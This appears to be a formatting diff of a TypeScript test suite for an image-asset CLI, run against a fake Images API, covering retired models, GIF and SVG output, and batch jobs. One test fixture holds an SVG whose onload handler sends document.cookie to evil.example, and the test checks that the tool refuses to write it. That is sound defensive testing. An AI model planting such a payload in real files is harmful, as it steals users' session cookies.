@@ -40,9 +40,21 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
     assert.ok(plan.ok, JSON.stringify(plan.ok ? '' : plan.problems));
     return { kind: 'generate', body: plan.body };
   }
-  const run = (request: PlannedRequest) => runImageJob({ request, connection: connection(), folder: nodeTargetFolder(dir), stem: 'compass', signal: new AbortController().signal, log: collectingLog() });
+  const run = (request: PlannedRequest) =>
+    runImageJob({
+      request,
+      connection: connection(),
+      folder: nodeTargetFolder(dir),
+      stem: 'compass',
+      signal: new AbortController().signal,
+      log: collectingLog(),
+    });
   async function post(body: Record<string, unknown>) {
-    const reply = await fetch(`${server.baseUrl}/images/generations`, { method: 'POST', headers: { authorization: `Bearer ${FAKE_API_KEY}`, 'content-type': 'application/json' }, body: JSON.stringify({ prompt: 'x', ...body }) });
+    const reply = await fetch(`${server.baseUrl}/images/generations`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${FAKE_API_KEY}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ prompt: 'x', ...body }),
+    });
     return { status: reply.status, body: (await reply.json()) as { error?: { message: string; code: string | null } } };
   }
 
@@ -52,7 +64,11 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
     for (const model of ['gpt-image-1.5', 'gpt-image-1-mini', 'chatgpt-image-latest', 'gpt-image-1', 'dall-e-3']) {
       const answer = await post({ model });
       assert.equal(answer.status, 404, model);
-      assert.deepEqual([answer.body.error?.code, answer.body.error?.message.startsWith(`The model \`${model}\` has been deprecated`)], ['model_not_found', true], model);
+      assert.deepEqual(
+        [answer.body.error?.code, answer.body.error?.message.startsWith(`The model \`${model}\` has been deprecated`)],
+        ['model_not_found', true],
+        model,
+      );
     }
   });
 
@@ -83,12 +99,15 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
     assert.ok(outcome.ok);
     assert.deepEqual(outcome.files, ['compass.gif']);
     const request = server.requests[0]!;
-    assert.deepEqual([request.fields.output_format, request.fields.frame_count, request.fields.frame_duration_ms, request.fields.stream], ['gif', 4, 150, false]);
+    assert.deepEqual(
+      [request.fields.output_format, request.fields.frame_count, request.fields.frame_duration_ms, request.fields.stream],
+      ['gif', 4, 150, false],
+    );
     const metadata = await sharp(await fs.readFile(path.join(dir, 'compass.gif'))).metadata();
     assert.deepEqual([metadata.format, metadata.pages], ['gif', 4]);
   });
 
-  it('writes an SVG and counts the SVG author\'s tokens in the cost', async () => {
+  it("writes an SVG and counts the SVG author's tokens in the cost", async () => {
     const outcome = await run(generate({ outputFormat: 'svg', complexity: 'low' }));
     assert.ok(outcome.ok);
     assert.deepEqual(outcome.files, ['compass.svg']);
@@ -99,13 +118,23 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
   });
 
   it('never writes an SVG with script, or a GIF that is cut short', async () => {
-    server.fixedImages.svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\'+document.cookie)"><rect width="1" height="1"/></svg>');
+    server.fixedImages.svg = Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\'+document.cookie)"><rect width="1" height="1"/></svg>',
+    );
     const svg = await run(generate({ outputFormat: 'svg' }));
     assert.ok(!svg.ok);
     assert.equal(svg.failure.kind, 'unexpected-output');
     assert.match(svg.failure.detail ?? '', /event handler/);
-    const frames = await Promise.all([0, 1].map((i) => sharp({ create: { width: 16, height: 16, channels: 3, background: { r: i * 100, g: 0, b: 0 } } }).png().toBuffer()));
-    const gif = await sharp(frames, { join: { animated: true } }).gif().toBuffer();
+    const frames = await Promise.all(
+      [0, 1].map((i) =>
+        sharp({ create: { width: 16, height: 16, channels: 3, background: { r: i * 100, g: 0, b: 0 } } })
+          .png()
+          .toBuffer(),
+      ),
+    );
+    const gif = await sharp(frames, { join: { animated: true } })
+      .gif()
+      .toBuffer();
     server.fixedImages.gif = gif.subarray(0, gif.length - 5);
     const cut = await run(generate({ outputFormat: 'gif' }));
     assert.ok(!cut.ok && cut.failure.kind === 'unexpected-output');
@@ -126,20 +155,35 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
     const cli = async (args: string[]) => {
       out = [];
       err = [];
-      return runAssetsCli(['art.images.json', '--base-url', server.baseUrl, ...args], { stdout: (line) => out.push(line), stderr: (line) => err.push(line), env: { OPENAI_API_KEY: FAKE_API_KEY }, cwd: dir });
+      return runAssetsCli(['art.images.json', '--base-url', server.baseUrl, ...args], {
+        stdout: (line) => out.push(line),
+        stderr: (line) => err.push(line),
+        env: { OPENAI_API_KEY: FAKE_API_KEY },
+        cwd: dir,
+      });
     };
     const write = (value: unknown) => fs.writeFile(path.join(dir, 'art.images.json'), JSON.stringify(value, null, 2));
 
     it('prints a retired model as file:line:col with its successor, and --check fails', async () => {
       await write({ assets: [{ out: 'a.png', prompt: 'a', model: 'gpt-image-1' }] });
       assert.equal(await cli(['--check']), 2);
-      assert.ok(err.includes('art.images.json:6:16: error: gpt-image-1 was shut down on 2026-10-23; use its successor gpt-image-2.5-sunburst.'), err.join('\n'));
+      assert.ok(
+        err.includes('art.images.json:6:16: error: gpt-image-1 was shut down on 2026-10-23; use its successor gpt-image-2.5-sunburst.'),
+        err.join('\n'),
+      );
       assert.equal(server.requests.length, 0);
     });
 
-    it('splits a batch by model, and collects every part; a GIF asset goes in its model\'s batch', async () => {
+    it("splits a batch by model, and collects every part; a GIF asset goes in its model's batch", async () => {
       server.batchPollsToComplete = 1;
-      await write({ defaults: { quality: 'low' }, assets: [{ out: 'a.png', prompt: 'a' }, { out: 'b.png', prompt: 'b', model: 'gpt-image-2.6-flare' }, { out: 'c.gif', prompt: 'c', model: 'gpt-image-2.6-flare', gifFrameCount: 3 }] });
+      await write({
+        defaults: { quality: 'low' },
+        assets: [
+          { out: 'a.png', prompt: 'a' },
+          { out: 'b.png', prompt: 'b', model: 'gpt-image-2.6-flare' },
+          { out: 'c.gif', prompt: 'c', model: 'gpt-image-2.6-flare', gifFrameCount: 3 },
+        ],
+      });
       assert.equal(await cli(['--batch']), 0, err.join('\n'));
       const batches = [...server.batches.values()];
       assert.deepEqual(
@@ -147,9 +191,18 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
         [['gpt-image-2.6-sunburst'], ['gpt-image-2.6-flare', 'gpt-image-2.6-flare']],
       );
       const lock = parseLockFile(await fs.readFile(path.join(dir, 'art.images.lock.json'), 'utf8')).lock;
-      assert.deepEqual(lock.batch?.parts?.map((part) => [part.model, part.keys]), [['gpt-image-2.6-sunburst', ['a.png']], ['gpt-image-2.6-flare', ['b.png', 'c.gif']]]);
+      assert.deepEqual(
+        lock.batch?.parts?.map((part) => [part.model, part.keys]),
+        [
+          ['gpt-image-2.6-sunburst', ['a.png']],
+          ['gpt-image-2.6-flare', ['b.png', 'c.gif']],
+        ],
+      );
       assert.equal(await cli(['--collect']), 0, err.join('\n'));
-      assert.ok(out.some((line) => /wrote 3, failed 0/.test(line)), out.join('\n'));
+      assert.ok(
+        out.some((line) => /wrote 3, failed 0/.test(line)),
+        out.join('\n'),
+      );
       assert.equal((await sharp(await fs.readFile(path.join(dir, 'c.gif'))).metadata()).pages, 3);
       const after = parseLockFile(await fs.readFile(path.join(dir, 'art.images.lock.json'), 'utf8')).lock;
       assert.deepEqual([after.batch, Object.keys(after.assets).sort()], [undefined, ['a.png', 'b.png', 'c.gif']]);
@@ -166,12 +219,29 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
       upload.append('file', new Blob([lines.map((line) => JSON.stringify(line)).join('\n')]), 'mixed.jsonl');
       const headers = { authorization: `Bearer ${FAKE_API_KEY}` };
       const file = (await (await fetch(`${server.baseUrl}/files`, { method: 'POST', headers, body: upload })).json()) as { id: string };
-      const batch = (await (await fetch(`${server.baseUrl}/batches`, { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify({ input_file_id: file.id, endpoint: '/v1/images/generations', completion_window: '24h' }) })).json()) as { id: string };
-      await write({ assets: [{ out: 'a.png', prompt: 'a' }, { out: 'b.png', prompt: 'b', model: 'gpt-image-2.6-flare' }] });
+      const batch = (await (
+        await fetch(`${server.baseUrl}/batches`, {
+          method: 'POST',
+          headers: { ...headers, 'content-type': 'application/json' },
+          body: JSON.stringify({ input_file_id: file.id, endpoint: '/v1/images/generations', completion_window: '24h' }),
+        })
+      ).json()) as { id: string };
+      await write({
+        assets: [
+          { out: 'a.png', prompt: 'a' },
+          { out: 'b.png', prompt: 'b', model: 'gpt-image-2.6-flare' },
+        ],
+      });
       const recipe = 'f'.repeat(64);
-      await fs.writeFile(path.join(dir, 'art.images.lock.json'), JSON.stringify({ version: 1, assets: {}, batch: { id: batch.id, submittedAt: '', assets: { 'a.png': recipe, 'b.png': recipe } } }));
+      await fs.writeFile(
+        path.join(dir, 'art.images.lock.json'),
+        JSON.stringify({ version: 1, assets: {}, batch: { id: batch.id, submittedAt: '', assets: { 'a.png': recipe, 'b.png': recipe } } }),
+      );
       assert.equal(await cli(['--collect']), 1);
-      assert.ok(err.some((line) => line.startsWith('failed: b.png: mixed_models: Line 2: all requests in a batch must use the same model')), err.join('\n'));
+      assert.ok(
+        err.some((line) => line.startsWith('failed: b.png: mixed_models: Line 2: all requests in a batch must use the same model')),
+        err.join('\n'),
+      );
       assert.ok(!err.some((line) => line.startsWith('failed: a.png: mixed_models')), 'only the line the error names');
     });
   });
